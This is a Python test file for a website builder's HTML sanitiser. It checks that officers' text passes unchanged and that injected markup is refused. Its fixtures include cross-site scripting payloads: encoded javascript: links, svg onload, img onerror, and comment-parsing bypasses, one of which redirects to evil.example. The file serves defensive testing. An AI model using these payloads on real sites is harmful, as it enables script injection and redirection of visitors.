"""One allow-list for HTML (hwbsite/htmlsafety.py): the loader refuses officers' text the sanitiser
would have to clean, and the build cleans every page with it; legitimate text and our own HTML
pass through unchanged; `hwbsite check` fails exactly when the build would."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import REPO, build, copy_project
from hwbsite import htmlsafety
from hwbsite.cli import main
from hwbsite.project import load_project

LEGIT = ["A & B < C", "Health & Care < Better > Worse", "the button onclick= handler", "x < y > z & w",
         "5 > 3 and 2 < 4", "AT&T and M&S", "javascript: is a word here", "a <- b"]


def test_checker_renders_with_the_sites_markdown_configuration():
    config = yaml.load((REPO / "mkdocs.yml").read_text(), Loader=yaml.BaseLoader)
    names = [next(iter(e)) if isinstance(e, dict) else e for e in config["markdown_extensions"]]
    assert names == htmlsafety.EXTENSIONS
    toc = next(e["toc"] for e in config["markdown_extensions"] if isinstance(e, dict) and "toc" in e)
    assert toc["permalink"] == "true" and toc["permalink_title"] == htmlsafety.EXTENSION_CONFIGS["toc"]["permalink_title"]


@pytest.mark.parametrize("text", LEGIT)
def test_legitimate_text_is_accepted_and_shown_exactly(text):
    assert htmlsafety.markdown_dangers(text) == ()
    shown = htmlsafety.sanitise(htmlsafety.render(text))
    assert html.unescape(re.sub(r"</?p>", "", shown)) == text


@pytest.mark.parametrize("payload, what", [
    ("<svg/onload=alert(1)>", "the event handler onload= on <svg>"),
    ("[x](&#106;avascript:alert(1))", "the link address 'javascript:alert(1)'"),
    ("[x](javascript&colon;alert(1))", "the link address 'javascript:alert(1)'"),
    ("[x](JAVASCRIPT:alert(1))", "the link address 'JAVASCRIPT:alert(1)'"),
    ("see [r]\n\n[r]: &#x6A;avascript:alert(1)", "the link address 'javascript:alert(1)'"),
    ('para\n{: onclick="alert(1)" }', "the event handler onclick= on <p>"),
    ("<a href=\"java&#x09;script:alert(1)\">x</a>", "the link address 'java\\tscript:alert(1)'"),
    ("<details open ontoggle=alert(1)>x</details>", "the event handler ontoggle= on <details>"),
    ("![i](data:image/svg+xml,<svg onload=alert(1)>)", "the link address"),
])
def test_dangerous_markdown_is_refused_whatever_the_spelling(payload, what):
    found = htmlsafety.markdown_dangers(payload)
    assert found and found[0].startswith(what), found


def test_a_paper_body_is_refused_at_the_line_that_defines_the_link(tmp_path):
    root = copy_project(REPO / "tests/fixtures/minimal", tmp_path / "p")
    (root / "content/papers").mkdir(parents=True)
    (root / "content/papers/a-paper.md").write_text(
        "---\nid: a-paper\ntitle: A paper\n---\n\nSee [the plan][p].\n\nMore text.\n\n"
        "[p]: &#x6A;avascript:alert(1)\n", encoding="utf-8")
    _project, log = load_project(root)
    (error,) = log.errors
    assert error.format().startswith("content/papers/a-paper.md:10:6: error: body: the public site does not allow "
                                     "the link address 'javascript:alert(1)'")


def test_a_content_page_svg_onload_is_refused_at_its_column(tmp_path):
    root = copy_project(REPO / "tests/fixtures/minimal", tmp_path / "p")
    (root / "content/about.md").write_text("# About\n\nHello <svg/onload=alert(1)> there\n", encoding="utf-8")
    _project, log = load_project(root)
    (error,) = log.errors
    assert error.format().startswith("content/about.md:3:12: error: ")   # at the handler itself
    assert "the event handler onload= on <svg>" in error.message


class _Events(HTMLParser):
    """A page's HTML as a browser sees it: elements, attributes (values decoded), text."""

    VOID = {"br", "hr", "img", "col", "wbr", "input"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.events: list[tuple] = []

    def handle_starttag(self, tag, attrs):
        self.events.append(("<", tag, tuple(sorted((k, htmlsafety._norm(k, v)) for k, v in attrs))))

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag not in self.VOID:
            self.events.append((">", tag))

    def handle_data(self, data):
        if self.events and self.events[-1][0] == "text":
            self.events[-1] = ("text", self.events[-1][1] + data)
        else:
            self.events.append(("text", data))


def events(fragment: str) -> list[tuple]:
    parser = _Events()
    parser.feed(fragment)
    parser.close()
    return parser.events


@pytest.mark.slow
def test_cleaning_changes_nothing_on_the_real_site(tmp_path, monkeypatch):
    """Our own HTML (charts, tables, details, permalinks ...) is all within the allow-list."""
    from hwbsite import plugin
    seen: list[tuple[str, str]] = []
    real = htmlsafety.sanitise

    def recording(fragment):
        cleaned = real(fragment)
        seen.append((fragment, cleaned))
        return cleaned

    monkeypatch.setattr(plugin.htmlsafety, "sanitise", recording)
    build(copy_project(REPO, tmp_path / "rotherham"))
    assert len(seen) > 100
    changed = [before[:200] for before, after in seen if events(before) != events(after)]
    assert changed == []
    assert sum('data-figure="' in before for before, _ in seen) > 5   # charts were among them


def _write_case(root: Path, where: str, text: str) -> None:
    if where == "page":
        (root / "content/about.md").write_text(f"# About\n\n{text}\n", encoding="utf-8")
    elif where == "paper":
        (root / "content/papers").mkdir(parents=True, exist_ok=True)
        (root / "content/papers/a-paper.md").write_text(f"---\nid: a-paper\ntitle: A paper\n---\n\n{text}\n",
                                                        encoding="utf-8")
    else:
        path = root / "data/meetings/2026-01-14.yml"
        path.write_text(path.read_text().replace("body: The board discussed the refresh.",
                                                 "body: " + yaml.safe_dump(text, default_style='"').strip()))


@pytest.mark.parametrize("where", ["page", "paper", "minute"])
@pytest.mark.parametrize("text, ok", [
    ("Pressing the button onclick= handler ran twice", True),
    ("Health & Care < Better > Worse", True),
    ("Click [here](&#106;avascript:alert(1))", False),
    ("An <img src=x onerror=alert(1)> image", False),
])
def test_check_fails_exactly_when_the_build_fails(tmp_path, caplog, where, text, ok):
    from mkdocs.exceptions import Abort
    root = copy_project(REPO / "tests/fixtures/minimal", tmp_path / "p")
    (root / "content/dashboards").mkdir(parents=True)
    (root / "content/dashboards/index.md").write_text("# Dashboards\n", encoding="utf-8")
    _write_case(root, where, text)
    checked = CliRunner().invoke(main, ["check", str(root)])
    assert checked.exit_code == (0 if ok else 1), checked.output
    if ok:
        site = build(root)
        shown = [p for p in site.rglob("*.html") if "Better" in p.read_text() or "onclick=" in p.read_text()]
        assert shown, "the text reached no page"
        expected = html.escape(text, quote=False)
        assert any(expected in p.read_text() for p in shown)
    else:
        with pytest.raises(Abort):
            build(root)
        located = [line.split(": error:")[0] for line in checked.output.splitlines() if ": error:" in line]
        assert located and all(f"{at}: error:" in caplog.text for at in located)


_NO_OPENERS = st.lists(st.sampled_from(list("abc xyz:;/!#*_-+=|>`~&()\"'\n\t.0123456789") +
                                      ["javascript:", "onclick=", "!!! note", "```", "&#106;", "---", "\n\n",
                                       "    ", "1. ", "- ", "| a |\n|---|\n", "&colon;", "on", "script", "```js"]),
                       max_size=80)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(_NO_OPENERS.map(lambda parts: "".join(parts)))
def test_text_without_markup_openers_renders_within_the_allow_list(text):
    """The shortcut in markdown_dangers (no '<', '[' or '{': nothing to clean) holds when rendered."""
    assert htmlsafety.dangers(htmlsafety.render(text)) == []


@pytest.mark.parametrize("text", [
    # "<!-->" and "<!--->" close a comment in a browser (HTML5) but not for Python's HTMLParser: the
    # check saw one comment, a plain MkDocs build of `hwbsite generate`'s tree published the script
    # (verify then failed it) or a meta refresh to another site
    '<!--> <script>window.location.replace(["//evil.example/x",window.location.search,'
    'window.location.hash].join(""))</script> -->',
    '<!---> <meta http-equiv="refresh" content="0;url=//evil.example/"> -->',
    '<!--> <img src="x.png" alt="" onerror="alert(1)"> -->',
])
def test_markup_after_a_comment_a_browser_closes_early_is_found(text):
    found = htmlsafety.locate("# Page\n\n" + text + "\n\nText.\n")
    assert found is not None and found.line == 3
    assert found.what in ("<script>", "<meta>", "the event handler onerror= on <img>")


def test_a_comment_closed_the_usual_way_is_still_fine():
    assert htmlsafety.locate("# Page\n\n<!-- a note for editors -->\n\nText.\n") is None
